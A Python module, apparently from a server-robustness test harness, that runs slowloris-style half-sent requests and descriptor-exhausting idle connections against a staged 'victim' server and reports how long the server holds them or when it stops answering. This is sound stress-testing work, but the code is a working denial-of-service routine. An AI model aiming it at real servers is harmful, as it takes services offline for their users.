"""Connections that are opened and not used."""

import selectors
import socket
from contextlib import ExitStack

from bench.attacks.stage import Stage, Stopwatch

_HALF = 200
_KEPT = 60  # seconds for which half a request is watched
_DESCRIPTORS = 1024  # of the server: what a shell gives it
_MOST, _AT_ONCE = 1_200, 25
_HEAD = b"POST /v1/threads HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer sk-attacker\r\n"
_HALVES = {"header": _HEAD, "body": _HEAD + b"Content-Length: 100\r\n\r\n{"}


def half_sent(stage: Stage) -> str:
    """Half a header or half a body, then silence."""
    with ExitStack() as opened, selectors.DefaultSelector() as selector:
        for number in range(_HALF):
            half = list(_HALVES)[number % 2]
            sock = opened.enter_context(_connection(stage))
            sock.sendall(_HALVES[half])
            selector.register(sock, selectors.EVENT_READ, half)
        watch = Stopwatch()
        ends: dict[str, list[float]] = {half: [] for half in _HALVES}
        while selector.get_map() and watch.seconds < _KEPT:
            for key, _ in selector.select(1):
                selector.unregister(key.fileobj)
                ends[key.data].append(watch.seconds)
    return "; ".join(_ended(half, times) for half, times in ends.items())


def limited(stage: Stage) -> None:
    """Start the server again, as from a shell that gives it few descriptors."""
    stage.victim.prefix = ["sh", "-c", f'ulimit -n {_DESCRIPTORS}; exec "$0" "$@"']
    stage.victim.stop()
    stage.victim.start()


def idle(stage: Stage) -> str:
    """So many connections that the server has no descriptor left for others."""
    victim = stage.victim
    with ExitStack() as opened:
        for number in range(0, _MOST, _AT_ONCE):
            for _ in range(_AT_ONCE):
                opened.enter_context(_connection(stage))
            try:
                victim.ask("GET", "/models", patience=5)
                status, _ = victim.ask("POST", "/threads", {}, patience=5)
            except OSError as error:
                return f"others get no answer beside {number + _AT_ONCE} ({type(error).__name__})"
            if status != 200:
                return f"others are answered {status} beside {number + _AT_ONCE}"
    return f"others are answered beside {_MOST}"


def _connection(stage: Stage) -> socket.socket:
    host, port = stage.victim.host.split(":")
    return socket.create_connection((host, int(port)), timeout=5)


def _ended(half: str, times: list[float]) -> str:
    if not times:
        return f"half a {half} is kept for more than {_KEPT} s"
    kept = _HALF // 2 - len(times)
    return f"half a {half} is kept for {min(times):.0f} to {max(times):.0f} s" + (
        f", {kept} longer" if kept else ""
    )
